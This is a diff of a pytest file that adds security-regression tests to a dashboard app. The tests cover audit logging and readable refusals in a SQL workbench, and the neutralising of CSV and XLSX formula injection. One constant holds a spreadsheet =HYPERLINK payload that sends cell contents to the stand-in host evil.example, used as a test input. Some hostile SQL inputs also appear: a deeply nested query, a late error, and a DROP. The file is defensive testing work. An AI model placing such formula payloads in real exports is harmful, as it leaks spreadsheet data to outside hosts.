@@ -5,15 +5,37 @@ Each test fails on the code before the fix (see docs/security-workbench.md). Cou
 
 from __future__ import annotations
 
+import datetime as dt
 import io
+import shutil
 import zipfile
 
 import polars as pl
+import pytest
+from streamlit.testing.v1 import AppTest
+from streamlit.util import calc_hash
 
+from dashboard.access import audit
+from dashboard.config import ROOT
 from dashboard.csvsafe import csv_bytes, csv_text
 from dashboard.engine import sandbox
+from dashboard.i18n import t
+from dashboard.scope import Scope
+from dashboard.sqlpages.run import refusal_text, workbench_run
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Mở")'
+
+
+def workbench_app(base, monkeypatch) -> AppTest:
+    """The app on `base` at /workbench, the tiny fixture's week, as the demo admin (mode none on test data)."""
+    monkeypatch.setenv("DASHBOARD_DATA_DIR", str(base))
+    monkeypatch.setenv("DASHBOARD_TODAY", "2026-03-10")
+    monkeypatch.delenv("DASHBOARD_ROLE", raising=False)
+    monkeypatch.delenv("DASHBOARD_SCOPE", raising=False)
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
+    at.query_params.update({"period": "custom", "start": "2026-03-02", "end": "2026-03-08"})
+    at._page_hash = calc_hash("workbench")
+    return at
 
 
 # ---- finding 7: formula injection in CSV ---------------------------------------------------------------------
@@ -37,7 +59,7 @@ def test_finding_07_csv_text_cells_that_start_a_formula_are_neutralised():
         "'-x,3,\n"
         "'@SUM(A1),4,1.0\n"
         "'\tx,5,0.0\n"
-        "\"'\rx\",6,2.0\n"
+        '"\'\rx",6,2.0\n'
         "Hà Nội,7,3.0\n"
         ",8,4.0\n"
         "a=b,-9,-1.5\n"
@@ -53,6 +75,136 @@ def test_finding_07_every_csv_the_app_writes_is_neutralised():
     # XLSX keeps writing it as a string: a shared string, no formula element anywhere in the sheet
     sheet = zipfile.ZipFile(io.BytesIO(sandbox.export(frame, "xlsx")))
     assert "<f>" not in sheet.read("xl/worksheets/sheet1.xml").decode()
-    assert "=HYPERLINK(&quot;" in sheet.read("xl/sharedStrings.xml").decode() or "=HYPERLINK(\"" in sheet.read(
-        "xl/sharedStrings.xml"
-    ).decode()
+    assert (
+        "=HYPERLINK(&quot;" in sheet.read("xl/sharedStrings.xml").decode()
+        or '=HYPERLINK("' in sheet.read("xl/sharedStrings.xml").decode()
+    )
+
+
+# ---- finding 1: every workbench run audited, every failure in words -----------------------------------------
+
+WEEK = {"start": dt.date(2026, 3, 2), "end": dt.date(2026, 3, 8), "scope_type": "all", "scope_id": None, "lang": "vi"}
+JOIN = "select * from exchanges_daily e join datasets d on e.dataset_id = d.dataset_id"
+INTERVAL = "select interval 1 day as i"
+LATE_ERROR = (
+    "select case when i > 9000 then error((select string_agg(name_vi, ' / ') from (from agencies limit 3))) "
+    "else i end from range(10000) t(i)"
+)
+DEEP = "select " + "abs(" * 400 + "1" + ")" * 400
+
+
+@pytest.fixture
+def base(tiny_base, tmp_path):
+    """A data dir of the test's own (the tiny fixture's curated files), so its audit log holds only this test."""
+    shutil.copytree(tiny_base / "curated", tmp_path / "curated")
+    return tmp_path
+
+
+def runs(base) -> list[dict]:
+    return audit.read(base, audit.now().date().isoformat(), event="workbench_query")
+
+
+def run_once(base, sql: str, **options):
+    """One run through the page's entry point; checks it wrote exactly one audit line and returns (outcome, line)."""
+    before = len(runs(base))
+    outcome = workbench_run(base, Scope(), sql, WEEK, "analyst", **options)
+    after = runs(base)
+    assert len(after) == before + 1
+    line = after[-1]
+    assert line["sql"] == sql and line["user"] == "analyst" and line["scope"] == "all"
+    return outcome, line
+
+
+def test_finding_01_a_join_with_repeated_names_is_shown_with_unique_names(base):
+    outcome, line = run_once(base, JOIN)
+    # E1..E7 all name a dataset in datasets (D1, D1, D2, D4, D3, D1, D4): 7 rows
+    assert isinstance(outcome, sandbox.Result) and outcome.total_rows == 7 and outcome.frame.height == 7
+    assert outcome.renamed == (("dataset_id", "dataset_id_2"),)
+    assert outcome.frame.columns.count("dataset_id") == 1 and "dataset_id_2" in outcome.frame.columns
+    assert outcome.frame["dataset_id"].to_list() == outcome.frame["dataset_id_2"].to_list()
+    assert line["status"] == "ok" and line["rows"] == 7
+    assert sandbox.unique_names(["a", "a", "a_2", "b", "a"]) == ["a", "a_3", "a_2", "b", "a_4"]
+
+
+def test_finding_01_every_duckdb_type_displays_as_text_or_as_itself(base):
+    sql = (
+        "select interval 1 day as i, [1, 2] as l, {'a': 1} as s, map([1], [2]) as m, 'ab'::blob as b, "
+        "12345678901234567890123456789012345678::decimal(38, 0) as d, union_value(k := 1) as u, 7 as n"
+    )
+    outcome, line = run_once(base, sql)
+    assert isinstance(outcome, sandbox.Result), outcome
+    assert outcome.as_text == ("i", "l", "s", "m", "b", "u")
+    # DuckDB's own text of each value
+    assert outcome.frame.select("i", "l", "s", "m", "b", "u").rows() == [
+        ("1 day", "[1, 2]", "{'a': 1}", "{1=2}", "ab", "1")
+    ]
+    assert str(outcome.frame["d"][0]) == "12345678901234567890123456789012345678" and outcome.frame["n"][0] == 7
+    assert line["status"] == "ok"
+    for kind in ("csv", "xlsx", "parquet"):
+        assert sandbox.export(outcome.frame, kind)  # and every download of it can be made
+    # a number too large for a DECIMAL(38) (the largest UHUGEINT, 39 digits; Arrow made it -1) is refused in words
+    too_big, line = run_once(base, "select 340282366920938463463374607431768211455::uhugeint as x")
+    assert isinstance(too_big, sandbox.Refused) and too_big.code == "error" and line["status"] == "refused:error"
+    assert "340282366920938463463374607431768211455" in refusal_text(too_big, "en")
+    # a sum of BIGINT is a HUGEINT: it stays a number; 1 + 2 + ... + 100 = 5050
+    summed, _ = run_once(base, "select sum(i::bigint) as s from range(101) t(i)")
+    assert summed.frame["s"].dtype.is_numeric() and int(summed.frame["s"][0]) == 5050
+
+
+@pytest.mark.parametrize(
+    ("sql", "code"),
+    [(INTERVAL, None), (LATE_ERROR, "error"), (DEEP, "too_deep"), ("drop view agencies", "not_select")],
+    ids=["interval", "error after the first batch", "too deep to check", "refused"],
+)
+def test_finding_01_the_issues_attacks_are_audited_and_answered_in_words(base, sql, code):
+    outcome, line = run_once(base, sql)
+    if code is None:
+        assert outcome.frame.rows() == [("1 day",)] and line["status"] == "ok"
+        return
+    assert isinstance(outcome, sandbox.Refused) and outcome.code == code
+    assert line["status"] == f"refused:{code}" and line["rows"] is None
+    for lang in ("vi", "en"):
+        assert "Traceback" not in refusal_text(outcome, lang)
+    if code == "error":  # the analyst sees DuckDB's words, the audit log holds the run
+        assert "Cơ quan C1 / Cơ quan C2" in refusal_text(outcome, "en")
+
+
+def test_finding_01_a_timeout_and_an_unexpected_error_of_any_class_are_audited(base, monkeypatch):
+    slow = "select count(*) as n from range(100000) a, range(100000) b where a.range + b.range = 7"
+    outcome, line = run_once(base, slow, timeout_s=1.0)
+    assert outcome.code == "timeout" and line["status"] == "refused:timeout"
+
+    def broken(*args, **kwargs):
+        raise pl.exceptions.DuplicateError("column appears more than once")
+
+    monkeypatch.setattr(sandbox, "run_select", broken)
+    outcome, line = run_once(base, "select 1 as x")
+    assert outcome.code == "failed" and line["status"] == "failed:DuplicateError"
+    assert refusal_text(outcome, "vi").startswith(t("workbench.refused_failed", "vi"))
+
+    class Stop(BaseException):  # what Streamlit raises into a script it stops or reruns
+        pass
+
+    def stopped(*args, **kwargs):
+        raise Stop
+
+    monkeypatch.setattr(sandbox, "run_select", stopped)
+    before = len(runs(base))
+    with pytest.raises(Stop):
+        workbench_run(base, Scope(), "select 2 as x", WEEK, "analyst")
+    assert len(runs(base)) == before + 1 and runs(base)[-1]["status"] == "interrupted"
+
+
+def test_finding_01_the_page_shows_words_and_writes_one_line_per_run(base, monkeypatch):
+    at = workbench_app(base, monkeypatch).run()
+    for sql in (JOIN, INTERVAL, LATE_ERROR, DEEP):
+        before = len(runs(base))
+        at.text_area(key="wb_sql").set_value(sql)
+        at = at.button(key="wb_run").click().run()
+        assert not at.exception, (sql, at.exception)
+        assert len(runs(base)) == before + 1
+    # the last one, too deep to check: one refusal in words
+    assert [e.value for e in at.error] == [t("workbench.refused_too_deep", "vi")]
+    at.text_area(key="wb_sql").set_value(JOIN)
+    at = at.button(key="wb_run").click().run()
+    assert t("workbench.renamed", "vi", names="dataset_id → dataset_id_2") in [i.value for i in at.info]
